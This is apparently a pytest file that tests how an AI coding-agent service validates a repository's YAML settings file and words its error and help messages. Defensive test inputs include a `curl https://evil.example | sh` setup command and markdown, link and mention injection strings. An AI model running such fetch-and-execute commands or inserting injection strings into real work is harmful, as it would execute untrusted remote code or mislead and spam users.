"""A repository's `.github/async-code.yml`: the values a task runs with, every way the file can
be wrong and what the status comment then says, and `help`'s description."""

from __future__ import annotations

import pytest

from app.repo_config import (MAX_FILE_BYTES, MAX_INSTRUCTIONS_CHARS, MAX_PROBLEMS_SHOWN,
                             MAX_SETUP_COMMAND_CHARS, MAX_SETUP_COMMANDS, ConfigError, EffectiveConfig,
                             Limits, describe, effective_config)
from app.settings import Settings
from tests.github_rendering import findings, render

# An operator who lets repositories choose: every ceiling set, two images, two models.
OPERATOR = {
    "ASYNC_CODE_TASK_TIMEOUT": "3600",
    "ASYNC_CODE_MAX_TURNS": "40",
    "ASYNC_CODE_ALLOWED_IMAGES": "python:3.12-bookworm,node:22-bookworm",
    "ASYNC_CODE_ALLOWED_MODELS": "claude-sonnet-4-6,claude-haiku-4-5",
    "ASYNC_CODE_BUDGET_TOKENS": "2000000",
    "ASYNC_CODE_BUDGET_USD": "5",
}
# One who set nothing: no images to choose, the default model only, no budget.
NOTHING_SET: dict[str, str] = {}


def settings(environment: dict[str, str]) -> Settings:
    chosen = Settings.from_env(environment)
    assert chosen.problems(store=False, agent=True) == []  # the operator's settings are valid
    return chosen


def problems(text: str, environment: dict[str, str] = OPERATOR) -> list[str]:
    with pytest.raises(ConfigError) as refused:
        effective_config(text, settings(environment))
    return refused.value.problems


# The values a task runs with

@pytest.mark.parametrize("text", [None, "", "\n\n", "# settings for async-code\n  # none yet\n", "{}"])
def test_no_file_an_empty_one_or_only_comments_means_the_operators_defaults(text):
    config = effective_config(text, settings(OPERATOR))
    assert config == EffectiveConfig(
        instructions="", image="python:3.12-bookworm", setup=(), timeout_seconds=3600,
        max_turns=40, model="claude-sonnet-4-6", branch_prefix="async-code/", draft=False,
        budget_tokens=2_000_000, budget_usd=5.0, limits=Limits.from_settings(settings(OPERATOR)),
        file_found=text is not None, set_by_file=frozenset())


def test_defaults_without_operator_ceilings_have_no_budget():
    config = effective_config(None, settings(NOTHING_SET))
    assert (config.image, config.model, config.timeout_seconds, config.max_turns) == (
        "python:3.12-bookworm", "claude-sonnet-4-6", 1800, 50)
    assert (config.budget_tokens, config.budget_usd) == (None, None)


def test_the_file_lowers_every_ceiling_and_chooses_what_is_allowed():
    text = """\
instructions: |
  Run `make lint` before you commit.
  Never edit vendor/.
image: node:22-bookworm
setup:
  - npm ci
  - npm run build
timeout: 20m
max_turns: 12
model: claude-haiku-4-5
agent: claude
branch_prefix: bot/
draft: true
budget:
  tokens: 300000
  usd: 1.25
"""
    config = effective_config(text, settings(OPERATOR))
    assert config.instructions == "Run `make lint` before you commit.\nNever edit vendor/.\n"
    assert (config.image, config.setup) == ("node:22-bookworm", ("npm ci", "npm run build"))
    assert (config.timeout_seconds, config.max_turns, config.model) == (1200, 12, "claude-haiku-4-5")
    assert (config.branch_prefix, config.draft, config.agent) == ("bot/", True, "claude")
    assert (config.budget_tokens, config.budget_usd) == (300_000, 1.25)
    assert config.set_by_file == {"instructions", "image", "setup", "timeout", "max_turns", "model",
                                  "agent", "branch_prefix", "draft", "budget.tokens", "budget.usd"}


@pytest.mark.parametrize("text, attribute, expected", [
    ("timeout: 3600", "timeout_seconds", 3600),  # equal to a ceiling is not above it
    ("timeout: 1h", "timeout_seconds", 3600),
    ("timeout: 50m30s", "timeout_seconds", 3030),
    ("timeout: 90s", "timeout_seconds", 90),
    ("timeout: '600'", "timeout_seconds", 600),
    ("timeout: 1m", "timeout_seconds", 60),
    ("max_turns: 1", "max_turns", 1),
    ("max_turns: 40", "max_turns", 40),
    ("budget: {tokens: 2000000}", "budget_tokens", 2_000_000),
    ("budget: {usd: 5}", "budget_usd", 5.0),
    ("budget: {usd: 0.01}", "budget_usd", 0.01),
    ("setup: make deps", "setup", ("make deps",)),  # one command needs no list
    ("setup: []", "setup", ()),
    ("setup: |\n  pip install -e .\n  make\n", "setup", ("pip install -e .\nmake\n",)),
    ("draft: false", "draft", False),
    ("branch_prefix: async-code/team-a/", "branch_prefix", "async-code/team-a/"),
    ("branch_prefix: ci-bot.", "branch_prefix", "ci-bot."),
    ("image: python:3.12-bookworm", "image", "python:3.12-bookworm"),
])
def test_one_key_at_a_time(text, attribute, expected):
    assert getattr(effective_config(text, settings(OPERATOR)), attribute) == expected


def test_a_budget_part_the_file_leaves_out_stays_the_operators():
    config = effective_config("budget: {tokens: 1000}", settings(OPERATOR))
    assert (config.budget_tokens, config.budget_usd) == (1000, 5.0)
    assert config.set_by_file == {"budget.tokens"}


def test_without_an_operator_ceiling_the_file_may_set_any_budget():
    config = effective_config("budget: {tokens: 50000000, usd: 300}", settings(NOTHING_SET))
    assert (config.budget_tokens, config.budget_usd) == (50_000_000, 300.0)


# Every way the file can be wrong, with what the status comment says

KEYS = ("`instructions`, `image`, `setup`, `timeout`, `max_turns`, `model`, `agent`, `compare`, "
        "`test`, `branch_prefix`, "
        "`draft`, `budget`")
DURATION = "a duration: seconds (`1800`) or a number with a unit (`90s`, `30m`, `1h`, `1h30m`)"
NO_ALIASES = "anchors and aliases (`&name`, `*name`) are not accepted; write the value out"


@pytest.mark.parametrize("case, text, environment, expected", [
    # YAML itself
    ("bad YAML", "timeout: 30m\nmax_turns: 3: 4\n", OPERATOR,
     "line 2, column 13: this is not valid YAML: `mapping values are not allowed here` "
     "(the line reads `max_turns: 3: 4`)"),
    ("unclosed list", "setup: [a, b\n", OPERATOR,
     "line 2, column 1: this is not valid YAML: `while parsing a flow sequence, expected ',' or "
     "']', but got '<stream end>'`"),
    ("a tab", "timeout:\t30m", OPERATOR,
     "line 1, column 9: this is not valid YAML: `while scanning for the next token, found "
     "character '\\t' that cannot start any token` (the line reads `timeout:\ufffd30m`)"),
    ("two documents", "timeout: 30m\n---\ndraft: true\n", OPERATOR,
     "line 2, column 1: this is not valid YAML: `expected a single document in the stream, but "
     "found another document` (the line reads `---`)"),
    ("a control character", "instructions: a\x07b", OPERATOR,
     "line 1, column 16: YAML does not allow the character `U+0007` (the line reads "
     "`instructions: a\ufffdb`)"),
    ("a list at the top", "- timeout: 30m\n- draft: true\n", OPERATOR,
     "the file holds a list; it must be a mapping of keys to values, one per line, such as "
     "`timeout: 30m`"),
    ("text at the top", "please use node", OPERATOR,
     "the file holds text; it must be a mapping of keys to values, one per line, such as "
     "`timeout: 30m`"),
    ("a number at the top", "42", OPERATOR,
     "the file holds a number; it must be a mapping of keys to values, one per line, such as "
     "`timeout: 30m`"),
    ("duplicate keys", "timeout: 10m\ndraft: true\ntimeout: 20m\n", OPERATOR,
     "line 3, column 1: the key `timeout` appears twice; keep one (the line reads `timeout: 20m`)"),
    ("duplicate keys in the budget", "budget:\n  usd: 1\n  usd: 2\n", OPERATOR,
     "line 3, column 3: the key `usd` appears twice; keep one (the line reads `usd: 2`)"),
    ("an alias bomb", "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\n"
     "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n", OPERATOR,
     f"line 1, column 4: {NO_ALIASES} (the line reads `a: &a [x, x, x, x, x, x, x, x, x]`)"),
    ("a merge key", "defaults: &d {draft: true}\n<<: *d\n", OPERATOR,
     f"line 1, column 11: {NO_ALIASES} (the line reads `defaults: &d {{draft: true}}`)"),
    ("an explicit tag", "draft: !!bool yes\n", OPERATOR,
     "line 1, column 8: explicit tags such as `tag:yaml.org,2002:bool` are not accepted; write "
     "the plain value (the line reads `draft: !!bool yes`)"),
    ("a number as a key", "30: timeout\n", OPERATOR,
     "line 1, column 1: keys are names such as `timeout`, not `30` (the line reads `30: timeout`)"),
    ("deep nesting", "setup: " + "[" * 12 + "]" * 12, OPERATOR,
     "line 1, column 17: values are nested more than 10 levels deep (the line reads "
     "`setup: [[[[[[[[[[[[]]]]]]]]]]]]`)"),
    # keys
    ("an unknown key", "colour: blue\n", OPERATOR,
     f"`colour` is not a key this file takes; the keys are {KEYS}"),
    ("a misspelt key", "max-turns: 5\n", OPERATOR,
     "`max-turns` is not a key this file takes; did you mean `max_turns`?"),
    ("a capitalised key", "Timeout: 5m\n", OPERATOR,
     "`Timeout` is not a key this file takes; did you mean `timeout`?"),
    ("an unknown budget key", "budget: {eur: 3}\n", OPERATOR,
     "`budget.eur` is not a key this file takes; the keys are `tokens`, `usd`"),
    ("a key with no value", "timeout:\n", OPERATOR,
     f"`timeout` has no value: give {DURATION}, or remove the key for the default"),
    ("a budget part with no value", "budget:\n  tokens:\n", OPERATOR,
     "`budget.tokens` has no value: give a whole number of tokens from 1 to 1,000,000,000,000, "
     "or remove the key for the default"),
    # wrong types, one per key
    ("instructions not text", "instructions: [be brief]\n", OPERATOR,
     "`instructions`: give text, not a list"),
    ("image not text", "image: 22\n", OPERATOR, "`image`: give an image name as text, not `22`"),
    ("setup a mapping", "setup: {install: make}\n", OPERATOR,
     "`setup`: give a shell command as text, or a list of them, not a mapping"),
    ("a setup command not text", "setup: [make, 3]\n", OPERATOR,
     "`setup` command 2: give a shell command as text, not `3`"),
    ("timeout a fraction", "timeout: 1.5\n", OPERATOR, f"`timeout`: give {DURATION}, not `1.5`"),
    ("timeout a boolean", "timeout: true\n", OPERATOR, f"`timeout`: give {DURATION}, not `true`"),
    ("max_turns as text", "max_turns: '20'\n", OPERATOR,
     "`max_turns`: give a whole number of model turns, at least 1, not the text `20`"),
    ("max_turns a fraction", "max_turns: 2.5\n", OPERATOR,
     "`max_turns`: give a whole number of model turns, at least 1, not `2.5`"),
    ("max_turns a boolean", "max_turns: false\n", OPERATOR,
     "`max_turns`: give a whole number of model turns, at least 1, not `false`"),
    ("model not text", "model: 4.6\n", OPERATOR, "`model`: give a model name as text, not `4.6`"),
    ("branch_prefix not text", "branch_prefix: [bot]\n", OPERATOR,
     "`branch_prefix`: give text such as `bot/`, not a list"),
    ("draft yes", "draft: yes\n", OPERATOR, "`draft`: give `true` or `false`, not the text `yes`"),
    ("draft on", "draft: on\n", OPERATOR, "`draft`: give `true` or `false`, not the text `on`"),
    ("draft 1", "draft: 1\n", OPERATOR, "`draft`: give `true` or `false`, not `1`"),
    ("draft quoted", "draft: 'true'\n", OPERATOR,
     "`draft`: give `true` or `false`, not the text `true`"),
    ("budget a number", "budget: 5\n", OPERATOR,
     "`budget`: give a mapping with `tokens`, `usd` or both, not `5`"),
    ("budget empty", "budget: {}\n", OPERATOR,
     "`budget` is empty: give `tokens`, `usd` or both, or remove it"),
    ("tokens as text", "budget: {tokens: lots}\n", OPERATOR,
     "`budget.tokens`: give a whole number of tokens from 1 to 1,000,000,000,000, not the text "
     "`lots`"),
    ("usd with a dollar sign", "budget: {usd: $5}\n", OPERATOR,
     "`budget.usd`: give an amount of US dollars above 0, such as `2.50`, not the text `$5`"),
    ("usd infinite", "budget: {usd: 1e999}\n", OPERATOR,
     "`budget.usd`: give an amount of US dollars above 0, such as `2.50`, not `inf`"),
    ("usd .inf", "budget: {usd: .inf}\n", OPERATOR,
     "`budget.usd`: give an amount of US dollars above 0, such as `2.50`, not the text `.inf`"),
    # negative and zero budgets and turns
    ("negative usd", "budget: {usd: -1}\n", OPERATOR,
     "`budget.usd`: give an amount of US dollars above 0, such as `2.50`, not `-1`"),
    ("zero usd", "budget: {usd: 0}\n", OPERATOR,
     "`budget.usd`: give an amount of US dollars above 0, such as `2.50`, not `0`"),
    ("negative tokens", "budget: {tokens: -100}\n", OPERATOR,
     "`budget.tokens`: give a whole number of tokens from 1 to 1,000,000,000,000, not `-100`"),
    ("absurd tokens", "budget: {tokens: 10000000000000}\n", NOTHING_SET,
     "`budget.tokens`: give a whole number of tokens from 1 to 1,000,000,000,000, not "
     "`10000000000000`"),
    ("zero turns", "max_turns: 0\n", OPERATOR,
     "`max_turns`: give a whole number of model turns, at least 1, not `0`"),
    # durations
    ("sexagesimal", "timeout: 1:30\n", OPERATOR,
     "`timeout`: `1:30` is not a duration; write seconds (`1800`) or a number with a unit: `90s`, "
     "`30m`, `1h`, `1h30m`"),
    ("words", "timeout: 30 minutes\n", OPERATOR,
     "`timeout`: `30 minutes` is not a duration; write seconds (`1800`) or a number with a unit: "
     "`90s`, `30m`, `1h`, `1h30m`"),
    ("a unit alone", "timeout: m\n", OPERATOR,
     "`timeout`: `m` is not a duration; write seconds (`1800`) or a number with a unit: `90s`, "
     "`30m`, `1h`, `1h30m`"),
    ("units out of order", "timeout: 30m1h\n", OPERATOR,
     "`timeout`: `30m1h` is not a duration; write seconds (`1800`) or a number with a unit: "
     "`90s`, `30m`, `1h`, `1h30m`"),
    ("minutes written as seconds", "timeout: 30\n", OPERATOR,
     "`timeout`: 30s is too short; give at least 1m (a plain number is seconds: write `30m` for "
     "thirty minutes)"),
    ("zero", "timeout: 0m\n", OPERATOR,
     "`timeout`: 0s is too short; give at least 1m (a plain number is seconds: write `30m` for "
     "thirty minutes)"),
    ("negative", "timeout: -60\n", OPERATOR,
     "`timeout`: -60s is too short; give at least 1m (a plain number is seconds: write `30m` for "
     "thirty minutes)"),
    # ceilings
    ("timeout above the ceiling", "timeout: 3h\n", NOTHING_SET,
     "`timeout`: 3h is above this service's limit of 30m (ASYNC_CODE_TASK_TIMEOUT); give at most "
     "that"),
    ("timeout in seconds above the ceiling", "timeout: 3601\n", OPERATOR,
     "`timeout`: 1h1s is above this service's limit of 1h (ASYNC_CODE_TASK_TIMEOUT); give at most "
     "that"),
    ("turns above the ceiling", "max_turns: 41\n", OPERATOR,
     "`max_turns`: 41 is above this service's limit of 40 (ASYNC_CODE_MAX_TURNS); give at most "
     "that"),
    ("tokens above the ceiling", "budget: {tokens: 2000001}\n", OPERATOR,
     "`budget.tokens`: 2,000,001 tokens is above this service's limit of 2,000,000 tokens "
     "(ASYNC_CODE_BUDGET_TOKENS); give at most that"),
    ("usd above the ceiling", "budget: {usd: 5.01}\n", OPERATOR,
     "`budget.usd`: $5.01 is above this service's limit of $5.00 (ASYNC_CODE_BUDGET_USD); give at "
     "most that"),
    ("an image when none may be chosen", "image: python:3.12-bookworm\n", NOTHING_SET,
     "`image`: this service does not let a repository choose its image (ASYNC_CODE_ALLOWED_IMAGES "
     "is not set); remove the key to use `python:3.12-bookworm`"),
    ("an image not listed", "image: python:3.12\n", OPERATOR,
     "`image`: `python:3.12` is not an image this service allows; choose one of "
     "`python:3.12-bookworm`, `node:22-bookworm` (ASYNC_CODE_ALLOWED_IMAGES)"),
    ("a model when only the default is allowed", "model: claude-haiku-4-5\n", NOTHING_SET,
     "`model`: `claude-haiku-4-5` is not a model this service allows; choose one of "
     "`claude-sonnet-4-6` (ASYNC_CODE_ALLOWED_MODELS)"),
    ("a model not listed", "model: claude-opus-4-1\n", OPERATOR,
     "`model`: `claude-opus-4-1` is not a model this service allows; choose one of "
     "`claude-sonnet-4-6`, `claude-haiku-4-5` (ASYNC_CODE_ALLOWED_MODELS)"),
    ("a model spelt in another case", "model: Claude-Sonnet-4-6\n", OPERATOR,
     "`model`: `Claude-Sonnet-4-6` is not a model this service allows; choose one of "
     "`claude-sonnet-4-6`, `claude-haiku-4-5` (ASYNC_CODE_ALLOWED_MODELS)"),
    ("an agent not enabled", "agent: codex\n", OPERATOR,
     "`agent`: `codex` is not an agent this service enables; choose one of `claude` "
     "(ASYNC_CODE_AGENTS)"),
    ("an agent that is no agent", "agent: '@octocat'\n", OPERATOR,
     "`agent`: `@octocat` is not an agent this service enables; choose one of `claude` "
     "(ASYNC_CODE_AGENTS)"),
    ("an agent not text", "agent: [claude]\n", OPERATOR,
     "`agent`: give an agent's name as text, not a list"),
    # branch prefixes
    ("an empty prefix", "branch_prefix: ''\n", OPERATOR,
     "`branch_prefix` is empty; remove it to use `async-code/`"),
    ("a prefix with a space", "branch_prefix: my bot/\n", OPERATOR,
     "`branch_prefix`: `my bot/` may hold only letters, digits and `-` `_` `.` `/`, such as "
     "`bot/`"),
    ("a prefix with a colon", "branch_prefix: 'bot:'\n", OPERATOR,
     "`branch_prefix`: `bot:` may hold only letters, digits and `-` `_` `.` `/`, such as `bot/`"),
    ("a prefix with a mention", "branch_prefix: '@octocat/'\n", OPERATOR,
     "`branch_prefix`: `@octocat/` may hold only letters, digits and `-` `_` `.` `/`, such as "
     "`bot/`"),
    ("a prefix with two dots", "branch_prefix: bot..x/\n", OPERATOR,
     "`branch_prefix`: `bot..x/` cannot start a branch name: it has `..` (as in "
     "`bot..x/12-3f9c2a1b`)"),
    ("a prefix with two slashes", "branch_prefix: bot//\n", OPERATOR,
     "`branch_prefix`: `bot//` cannot start a branch name: it has `//` (as in `bot//12-3f9c2a1b`)"),
    ("a prefix starting with a dash", "branch_prefix: -bot/\n", OPERATOR,
     "`branch_prefix`: `-bot/` cannot start a branch name: it starts with `-` (as in "
     "`-bot/12-3f9c2a1b`)"),
    ("a prefix starting with a slash", "branch_prefix: /bot/\n", OPERATOR,
     "`branch_prefix`: `/bot/` cannot start a branch name: it starts with `/` (as in "
     "`/bot/12-3f9c2a1b`)"),
    ("a prefix with a .lock part", "branch_prefix: bot.lock/\n", OPERATOR,
     "`branch_prefix`: `bot.lock/` cannot start a branch name: a part of it ends with `.lock` (as "
     "in `bot.lock/12-3f9c2a1b`)"),
    ("a prefix with a hidden part", "branch_prefix: bot/.x\n", OPERATOR,
     "`branch_prefix`: `bot/.x` cannot start a branch name: a part of it starts with `.` (as in "
     "`bot/.x12-3f9c2a1b`)"),
    ("a long prefix", f"branch_prefix: {'b' * 101}\n", OPERATOR,
     "`branch_prefix` is 101 characters long; the most is 100"),
    # sizes
    ("long instructions", f"instructions: {'x' * (MAX_INSTRUCTIONS_CHARS + 1)}\n", OPERATOR,
     f"`instructions` is {MAX_INSTRUCTIONS_CHARS + 1:,} characters long; the most is "
     f"{MAX_INSTRUCTIONS_CHARS:,}"),
    ("too many setup commands", "setup: [" + ", ".join(["make"] * (MAX_SETUP_COMMANDS + 1)) + "]",
     OPERATOR, f"`setup` has {MAX_SETUP_COMMANDS + 1} commands; the most is {MAX_SETUP_COMMANDS}: "
     "put them in a script and run that"),
    ("a long setup command", f"setup: [make, '{'x' * (MAX_SETUP_COMMAND_CHARS + 1)}']", OPERATOR,
     f"`setup` command 2 is {MAX_SETUP_COMMAND_CHARS + 1:,} characters long; the most is "
     f"{MAX_SETUP_COMMAND_CHARS:,}: put a long script in a file and run that"),
    ("an empty setup command", "setup: [make, '']\n", OPERATOR, "`setup` command 2 is empty"),
    ("a NUL in a setup command", 'setup: ["make\\0all"]\n', OPERATOR,
     "`setup` command 1 holds a NUL character, which no command line can carry"),
    ("an oversized file", "# " + "x" * MAX_FILE_BYTES + "\n", OPERATOR,
     "the file is 65 KB; this service reads files of at most 64 KB, and settings need far less"),
], ids=lambda value: value if isinstance(value, str) and " " in value and len(value) < 50 else "")
def test_each_problem_names_the_key_and_what_to_do(case, text, environment, expected):
    assert problems(text, environment) == [expected]


def test_an_oversized_file_is_measured_in_bytes_not_characters():
    text = "instructions: " + "é" * (MAX_FILE_BYTES // 2)  # fewer characters than bytes
    assert len(text) < MAX_FILE_BYTES < len(text.encode())
    assert problems(text) == ["the file is 65 KB; this service reads files of at most 64 KB, and "
                              "settings need far less"]


def test_every_problem_is_listed_not_just_the_first():
    text = "timeout: 3h\nmax_turns: 0\ndraft: yes\ncolour: blue\nbudget: {usd: 9}\n"
    assert problems(text, NOTHING_SET) == [
        "`timeout`: 3h is above this service's limit of 30m (ASYNC_CODE_TASK_TIMEOUT); give at most "
        "that",
        "`max_turns`: give a whole number of model turns, at least 1, not `0`",
        "`draft`: give `true` or `false`, not the text `yes`",
        f"`colour` is not a key this file takes; the keys are {KEYS}",
    ]  # without an operator ceiling, $9 is a fine budget


def test_the_message_is_markdown_for_the_status_comment():
    with pytest.raises(ConfigError) as refused:
        effective_config("timeout: 3h\nmodel: gpt-5\n", settings(NOTHING_SET))
    assert str(refused.value) == (
        "`.github/async-code.yml` on the default branch cannot be used:\n"
        "- `timeout`: 3h is above this service's limit of 30m (ASYNC_CODE_TASK_TIMEOUT); give at "
        "most that\n"
        "- `model`: `gpt-5` is not a model this service allows; choose one of `claude-sonnet-4-6` "
        "(ASYNC_CODE_ALLOWED_MODELS)\n"
        "\n"
        "Fix it on the default branch, then ask again.")


def test_a_file_full_of_problems_lists_a_readable_number_of_them():
    text = "".join(f"key{number}: 1\n" for number in range(MAX_PROBLEMS_SHOWN + 30))
    with pytest.raises(ConfigError) as refused:
        effective_config(text, settings(OPERATOR))
    assert len(refused.value.problems) == MAX_PROBLEMS_SHOWN + 30
    message = str(refused.value)
    assert message.count("\n- ") == MAX_PROBLEMS_SHOWN + 1
    assert "\n- and 30 more\n" in message


HOSTILE = [
    "@octocat: 1\n",
    "'@octocat please look': 1\n",
    "'https://evil.example/x': 1\n",
    "'<img src=https://evil.example/i.png>': 1\n",
    "'![x](https://evil.example/i.png)': 1\n",
    "'`` @octocat ``': 1\n",
    '"a\\n\\n@octocat": 1\n',  # double quotes: the escapes are real line breaks
    "model: '@octocat'\n",
    "model: '[click](https://evil.example)'\n",
    "image: '`@octocat`'\n",
    "timeout: '<a href=https://evil.example>x</a>'\n",
    "draft: '@octocat https://evil.example'\n",
    "branch_prefix: '@team/'\n",
    "instructions: [a]\n@octocat: x\n",
    "timeout: 30m: '@octocat https://evil.example'\n",
    '"\\u202e@octocat": 1\n',
    "budget: {'@octocat': 1, usd: '@octocat'}\n",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_files_text_never_mentions_anyone_or_links_away(text):
    with pytest.raises(ConfigError) as refused:
        effective_config(text, settings(OPERATOR))
    assert findings(render(str(refused.value))) == []


def test_the_files_text_is_quoted_only_in_short_excerpts():
    long_key = "k" * 5000
    with pytest.raises(ConfigError) as refused:
        effective_config(f"{long_key}: 1\nmodel: {'m' * 5000}\n", settings(OPERATOR))
    message = str(refused.value)
    assert "k" * 60 not in message and "m" * 60 not in message
    assert len(message) < 1000


def test_no_pydantic_wording_reaches_the_message():
    every_kind = ("instructions: [1]\nimage: 1\nsetup: [1]\ntimeout: x\nmax_turns: x\nmodel: 1\n"
                  "branch_prefix: 1\ndraft: x\nbudget: {tokens: x, usd: x, extra: 1}\nother: 1\n")
    message = str(problems(every_kind, OPERATOR))
    for pydantic_word in ("Input should", "validation error", "type=", "pydantic", "Extra inputs"):
        assert pydantic_word not in message


# help

def test_describe_without_a_file_gives_the_operators_defaults_and_limits():
    text = describe(effective_config(None, settings(NOTHING_SET)), setup_network=False)
    assert text == (
        "**Effective config** of this repository: there is no `.github/async-code.yml` on the "
        "default branch, so tasks run with this service's defaults.\n"
        "\n"
        "- `instructions`: none\n"
        "- `image`: `python:3.12-bookworm` (this service's default; the file may not choose an "
        "image)\n"
        "- `setup`: none (setup would run offline, as ASYNC_CODE_SETUP_NETWORK is not set)\n"
        "- `timeout`: 30m (this service's default; the most allowed is 30m)\n"
        "- `max_turns`: 50 (this service's default; the most allowed is 50)\n"
        "- `model`: `claude-sonnet-4-6` (this service's default; the file may choose "
        "`claude-sonnet-4-6`)\n"
        "- `agent`: `claude` (this service's default; the file may choose `claude`)\n"
        "- `compare`: none: a request runs one agent unless it says `--agents A,B`\n"
        "- `test`: none (side-by-side comparisons show no test result)\n"
        "- `branch_prefix`: `async-code/` (this service's default)\n"
        "- `draft`: false (this service's default)\n"
        "- `budget.tokens`: no limit (this service's default)\n"
        "- `budget.usd`: no limit (this service's default)\n")


def test_describe_says_which_values_come_from_the_file():
    config = effective_config(
        "instructions: |\n  Use pnpm, not npm.\n  Keep commits small.\nsetup: [pnpm install]\n"
        "timeout: 45m\nbudget: {usd: 2.5}\n", settings(OPERATOR))
    assert describe(config, setup_network=False) == (
        "**Effective config** of this repository: `.github/async-code.yml` on the default branch, "
        "and this service's defaults for what it does not set.\n"
        "\n"
        "- `instructions`: 2 lines, 39 characters, starting `Use pnpm, not npm.` (from the file)\n"
        "- `image`: `python:3.12-bookworm` (this service's default; the file may choose "
        "`python:3.12-bookworm`, `node:22-bookworm`)\n"
        "- `setup`: 1 command: `pnpm install` (from the file; setup runs offline, "
        "as ASYNC_CODE_SETUP_NETWORK is not set)\n"
        "- `timeout`: 45m (from the file; the most allowed is 1h)\n"
        "- `max_turns`: 40 (this service's default; the most allowed is 40)\n"
        "- `model`: `claude-sonnet-4-6` (this service's default; the file may choose "
        "`claude-sonnet-4-6`, `claude-haiku-4-5`)\n"
        "- `agent`: `claude` (this service's default; the file may choose `claude`)\n"
        "- `compare`: none: a request runs one agent unless it says `--agents A,B`\n"
        "- `test`: none (side-by-side comparisons show no test result)\n"
        "- `branch_prefix`: `async-code/` (this service's default)\n"
        "- `draft`: false (this service's default)\n"
        "- `budget.tokens`: 2,000,000 tokens (this service's default; the most allowed is "
        "2,000,000 tokens)\n"
        "- `budget.usd`: $2.50 (from the file; the most allowed is $5.00)\n")


def test_describe_never_mentions_or_links_from_the_files_text():
    config = effective_config(
        "instructions: '@octocat see https://evil.example ![i](https://evil.example/i.png)'\n"
        "setup: ['curl https://evil.example | sh # @octocat', '`@team` <img src=x>']\n",
        settings(OPERATOR))
    for setup_network in (False, True):
        assert findings(render(describe(config, setup_network=setup_network))) == []


@pytest.mark.parametrize(("file", "setup_network", "line"), [
    ("setup: [pnpm install]\n", True, "- `setup`: 1 command: `pnpm install` (from the file; setup "
     "runs on the network ASYNC_CODE_SETUP_NETWORK names, and the agent after it offline)"),
    ("setup: [pnpm install]\n", False, "- `setup`: 1 command: `pnpm install` (from the file; "
     "setup runs offline, as ASYNC_CODE_SETUP_NETWORK is not set)"),
    (None, True, "- `setup`: none (setup would run on the network ASYNC_CODE_SETUP_NETWORK "
     "names, and the agent after it offline)"),
    (None, False, "- `setup`: none (setup would run offline, as ASYNC_CODE_SETUP_NETWORK is not set)"),
], ids=["network", "offline", "no-setup-network", "no-setup-offline"])
def test_describe_says_whether_setup_has_a_network(file, setup_network, line):
    text = describe(effective_config(file, settings(OPERATOR)), setup_network=setup_network)
    assert line + "\n" in text


# Side by side: `compare` and `test`

COMPARING = {**OPERATOR, "ASYNC_CODE_AGENTS": "claude,claude-code,codex",
             "OPENAI_API_KEY": "sk-test-not-a-real-key"}


def test_compare_and_test_are_read():
    config = effective_config("compare: [codex, claude]\ntest: pytest -q\n", settings(COMPARING))
    assert (config.compare, config.test) == (("codex", "claude"), ("pytest -q",))
    assert {"compare", "test"} <= config.set_by_file
    listed = effective_config("compare: [claude, claude-code, codex]\ntest:\n  - make\n  - make check\n",
                              settings(COMPARING))
    assert (listed.compare, listed.test) == (("claude", "claude-code", "codex"),
                                             ("make", "make check"))
    assert effective_config(None, settings(COMPARING)).compare == ()


@pytest.mark.parametrize("text, expected", [
    ("compare: [claude]", "`compare` has 1 agent; give 2 to 4, such as `[claude, codex]`, or use "
                          "`agent` for one"),
    ("compare: []", "`compare` has 0 agents; give 2 to 4, such as `[claude, codex]`, or use "
                    "`agent` for one"),
    ("compare: [claude, codex, claude]", "`compare` names an agent twice; name each once"),
    ("compare: [claude, gemini]", "`compare`: `gemini` is not an agent this service enables; "
                                  "choose among `claude`, `claude-code`, `codex` (ASYNC_CODE_AGENTS)"),
    ("compare: claude", "`compare`: give a list of agents' names, such as `[claude, codex]`, not "
                        "the text `claude`"),
    ("compare: [claude, 3]", "`compare` item 2: give an agent's name as text, not `3`"),
    ("compare:", "`compare` has no value: give a list of agents' names, such as "
                 "`[claude, codex]`, or remove the key for the default"),
    ("test: ''", "`test` command 1 is empty"),
    ("test: [make, 3]", "`test` command 2: give a shell command as text, not `3`"),
    ("test: {run: make}", "`test`: give a shell command as text, or a list of them, not a mapping"),
    ("test: \"make\\0\"", "`test` command 1 holds a NUL character, which no command line can carry"),
    ("test: [" + ", ".join(["make"] * (MAX_SETUP_COMMANDS + 1)) + "]",
     f"`test` has {MAX_SETUP_COMMANDS + 1} commands; the most is {MAX_SETUP_COMMANDS}: put them "
     "in a script and run that"),
])
def test_compare_and_test_problems(text, expected):
    assert problems(text, COMPARING) == [expected]


def test_compare_needs_agents_the_operator_enables():
    # The default operator enables only the built-in agent.
    assert problems("compare: [claude, codex]", OPERATOR) == [
        "`compare`: `codex` is not an agent this service enables; choose among `claude` "
        "(ASYNC_CODE_AGENTS)"]
